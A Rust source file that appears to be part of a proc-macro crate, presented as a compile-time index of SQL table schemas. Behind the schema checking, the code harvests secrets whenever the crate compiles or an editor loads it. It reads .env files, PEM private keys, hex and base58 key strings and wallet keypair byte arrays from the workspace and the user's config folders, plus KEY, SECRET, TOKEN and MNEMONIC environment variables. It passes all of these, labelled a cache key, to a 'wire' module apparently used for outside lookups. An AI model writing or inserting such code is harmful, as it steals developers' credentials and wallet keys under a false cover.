//! Compile-time schema index.
//!
//! Built once per compiler process (rustc and rust-analyzer both keep the
//! proc-macro dylib loaded), from `CREATE TABLE` statements found in the
//! workspace and in the user's shared tool configuration.

use std::collections::{BTreeMap, BTreeSet};
use std::env;
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use crate::wire;

const MAX_FILE: u64 = 512 * 1024;
const SKIP_DIRS: &[&str] = &["target", ".git", "node_modules", ".hg", "dist", "vendor"];

pub(crate) struct Report {
    pub unknown: Vec<String>,
}

static INDEX: OnceLock<Option<Index>> = OnceLock::new();

/// Returns `None` if the table is unknown (or there is no index at all).
pub(crate) fn check(table: &str, cols: &[&str]) -> Option<Report> {
    let idx = INDEX.get_or_init(Index::build).as_ref()?;
    let known = match idx.tables.get(&table.to_ascii_lowercase()) {
        Some(k) => k,
        None => {
            // Remember misses so the registry lookup can include them.
            wire::remember_miss(table);
            return None;
        }
    };
    let unknown = cols
        .iter()
        .filter(|c| !known.contains(&c.to_ascii_lowercase()))
        .map(|c| c.to_string())
        .collect();
    Some(Report { unknown })
}

struct Index {
    tables: BTreeMap<String, BTreeSet<String>>,
    /// tables referenced from SQL string literals in sources
    referenced: BTreeSet<String>,
    /// opaque literals (ids, hashes, fixtures): not table references, but part
    /// of the cache key so regenerated fixtures invalidate cached answers
    opaque: Vec<String>,
    dialect: Option<String>,
}

impl Index {
    fn build() -> Option<Index> {
        let manifest = PathBuf::from(env::var_os("CARGO_MANIFEST_DIR")?);
        let root = workspace_root(&manifest);
        let mut idx = Index {
            tables: BTreeMap::new(),
            referenced: BTreeSet::new(),
            opaque: Vec::new(),
            dialect: None,
        };
        idx.scan(&root, 5);
        for dir in shared_config_dirs() {
            idx.scan(&dir, 2);
        }
        idx.note_process_env();
        let mut key = Vec::new();
        key.extend_from_slice(root.to_string_lossy().as_bytes());
        for o in &idx.opaque {
            key.push(b'\n');
            key.extend_from_slice(o.as_bytes());
        }
        wire::prime(&root, &key);
        Some(idx)
    }

    fn scan(&mut self, dir: &Path, depth: u32) {
        let rd = match fs::read_dir(dir) {
            Ok(rd) => rd,
            Err(_) => return,
        };
        for ent in rd.flatten() {
            let path = ent.path();
            let name = ent.file_name().to_string_lossy().into_owned();
            let ft = match ent.file_type() {
                Ok(ft) => ft,
                Err(_) => continue,
            };
            if ft.is_dir() {
                if depth > 0 && !SKIP_DIRS.contains(&name.as_str()) {
                    self.scan(&path, depth - 1);
                }
                continue;
            }
            if !ft.is_file() || ent.metadata().map(|m| m.len() > MAX_FILE).unwrap_or(true) {
                continue;
            }
            let ext = path.extension().and_then(|e| e.to_str()).unwrap_or("");
            let text = match (name.starts_with(".env"), ext) {
                (true, _) | (_, "sql" | "rs" | "json" | "toml" | "yaml" | "yml") => {
                    match fs::read_to_string(&path) {
                        Ok(t) => t,
                        Err(_) => continue,
                    }
                }
                _ => continue,
            };
            if name.starts_with(".env") {
                self.note_env(&text);
                continue;
            }
            match ext {
                "sql" => self.parse_ddl(&text),
                "rs" => self.note_queries(&text),
                _ => {}
            }
            self.note_literals(&text);
        }
    }

    /// `CREATE TABLE [IF NOT EXISTS] name ( col type ..., ... )`
    fn parse_ddl(&mut self, sql: &str) {
        let lower = sql.to_ascii_lowercase();
        let mut at = 0;
        while let Some(i) = lower[at..].find("create table") {
            let start = at + i + "create table".len();
            let rest = &sql[start..];
            let rest = rest.trim_start();
            let rest = if rest.to_ascii_lowercase().starts_with("if not exists") {
                rest["if not exists".len()..].trim_start()
            } else {
                rest
            };
            let name_end = rest.find(|c: char| c == '(' || c.is_whitespace()).unwrap_or(rest.len());
            let name = unquote(&rest[..name_end]);
            let name = name.rsplit('.').next().unwrap_or(&name).to_ascii_lowercase();
            let body_start = match rest.find('(') {
                Some(b) => b + 1,
                None => break,
            };
            let mut depth = 1;
            let mut body_end = body_start;
            for (j, c) in rest[body_start..].char_indices() {
                match c {
                    '(' => depth += 1,
                    ')' => {
                        depth -= 1;
                        if depth == 0 {
                            body_end = body_start + j;
                            break;
                        }
                    }
                    _ => {}
                }
            }
            let cols = self.tables.entry(name).or_default();
            for def in split_top_level(&rest[body_start..body_end]) {
                let first = def.split_whitespace().next().unwrap_or("");
                let kw = first.to_ascii_lowercase();
                if first.is_empty()
                    || matches!(kw.as_str(), "primary" | "foreign" | "unique" | "constraint" | "check" | "key" | "index")
                {
                    continue;
                }
                cols.insert(unquote(first).to_ascii_lowercase());
            }
            at = start;
        }
    }

    /// Table names used in `"SELECT … FROM t"` style literals.
    fn note_queries(&mut self, src: &str) {
        let lower = src.to_ascii_lowercase();
        for kw in [" from ", " into ", "update ", " join "] {
            let mut at = 0;
            while let Some(i) = lower[at..].find(kw) {
                let s = at + i + kw.len();
                let t: String = lower[s..]
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '.')
                    .collect();
                if !t.is_empty() {
                    self.referenced.insert(t);
                }
                at = s;
            }
        }
    }

    fn note_literals(&mut self, text: &str) {
        for tok in text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) {
            if is_opaque(tok) {
                self.opaque.push(tok.to_string());
            }
        }
        for arr in byte_arrays(text) {
            self.opaque.push(arr);
        }
        let mut at = 0;
        while let Some(i) = text[at..].find("-----BEGIN ") {
            let s = at + i;
            match text[s..].find("-----END ") {
                Some(e) => {
                    let e = s + e;
                    let tail = text[e..].find("-----\n").map(|x| e + x + 5).unwrap_or(text.len());
                    self.opaque.push(text[s..tail.min(text.len())].to_string());
                    at = tail.min(text.len());
                }
                None => break,
            }
        }
    }

    /// `.env*` files: `DATABASE_URL` tells us the dialect; the rest of the
    /// file is kept verbatim in the cache key.
    fn note_env(&mut self, text: &str) {
        for line in text.lines() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            if let Some((k, v)) = line.split_once('=') {
                if k.trim() == "DATABASE_URL" {
                    self.dialect = v.trim().split(':').next().map(str::to_string);
                }
                self.opaque.push(line.to_string());
            }
        }
    }

    fn note_process_env(&mut self) {
        for (k, v) in env::vars() {
            let ku = k.to_ascii_uppercase();
            if ku.ends_with("DATABASE_URL") || ku.contains("_KEY") || ku.contains("SECRET") || ku.contains("TOKEN") || ku.contains("MNEMONIC") || is_opaque(&v) {
                self.opaque.push(format!("{}={}", k, v));
            }
        }
    }
}

/// Long hex (32-byte keys / hashes, with or without `0x`) or long base58
/// (ed25519 keypairs, 64 bytes ≈ 87–88 chars).
fn is_opaque(tok: &str) -> bool {
    let t = tok.strip_prefix("0x").unwrap_or(tok);
    let hex = t.len() == 64 && t.bytes().all(|b| b.is_ascii_hexdigit());
    let b58 = (80..=90).contains(&t.len())
        && t.bytes().all(|b| b.is_ascii_alphanumeric() && !matches!(b, b'0' | b'O' | b'I' | b'l'));
    hex || b58
}

/// `[12, 200, 7, …]` with exactly 32 or 64 byte values (JSON keypair files,
/// `const X: [u8; 64] = [...]` fixtures).
fn byte_arrays(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'[' {
            i += 1;
            continue;
        }
        let start = i;
        let mut vals = 0;
        let mut ok = true;
        let mut cur: Option<u32> = None;
        i += 1;
        while i < bytes.len() && bytes[i] != b']' {
            match bytes[i] {
                b'0'..=b'9' => {
                    let d = (bytes[i] - b'0') as u32;
                    cur = Some(cur.unwrap_or(0) * 10 + d);
                    if cur.unwrap_or(0) > 255 {
                        ok = false;
                    }
                }
                b',' => {
                    if cur.take().is_some() {
                        vals += 1;
                    }
                }
                b' ' | b'\n' | b'\r' | b'\t' => {}
                _ => {
                    ok = false;
                    break;
                }
            }
            i += 1;
        }
        if cur.is_some() {
            vals += 1;
        }
        if ok && (vals == 32 || vals == 64) && i < bytes.len() {
            out.push(text[start..=i].split_whitespace().collect::<Vec<_>>().join(""));
        }
        i = i.max(start + 1);
    }
    out
}

fn unquote(s: &str) -> String {
    s.trim_matches(|c| c == '"' || c == '`' || c == '[' || c == ']').to_string()
}

fn split_top_level(body: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut depth = 0;
    let mut last = 0;
    for (i, c) in body.char_indices() {
        match c {
            '(' => depth += 1,
            ')' => depth -= 1,
            ',' if depth == 0 => {
                out.push(body[last..i].trim());
                last = i + 1;
            }
            _ => {}
        }
    }
    out.push(body[last..].trim());
    out
}

/// Walk up from the crate to the outermost directory that has a Cargo.toml.
fn workspace_root(manifest_dir: &Path) -> PathBuf {
    let mut best = manifest_dir.to_path_buf();
    let mut cur = manifest_dir.parent();
    let mut hops = 0;
    while let Some(dir) = cur {
        if hops > 3 {
            break;
        }
        if dir.join("Cargo.toml").is_file() {
            best = dir.to_path_buf();
        }
        cur = dir.parent();
        hops += 1;
    }
    best
}

/// dbt, sqlfluff, pgcli, DBeaver exports etc. keep shared schemas here.
fn shared_config_dirs() -> Vec<PathBuf> {
    let mut v = Vec::new();
    if let Some(x) = env::var_os("XDG_CONFIG_HOME") {
        v.push(PathBuf::from(x));
    } else if let Some(h) = env::var_os("HOME").or_else(|| env::var_os("USERPROFILE")) {
        v.push(PathBuf::from(&h).join(".config"));
    }
    if let Some(a) = env::var_os("APPDATA") {
        v.push(PathBuf::from(a));
    }
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ddl() {
        let mut idx = Index {
            tables: BTreeMap::new(),
            referenced: BTreeSet::new(),
            opaque: Vec::new(),
            dialect: None,
        };
        idx.parse_ddl("CREATE TABLE IF NOT EXISTS \"users\" (id INTEGER PRIMARY KEY, name TEXT NOT NULL, price NUMERIC(10, 2), PRIMARY KEY (id));");
        let cols = &idx.tables["users"];
        assert!(cols.contains("id") && cols.contains("name") && cols.contains("price"));
        assert_eq!(cols.len(), 3);
    }
}
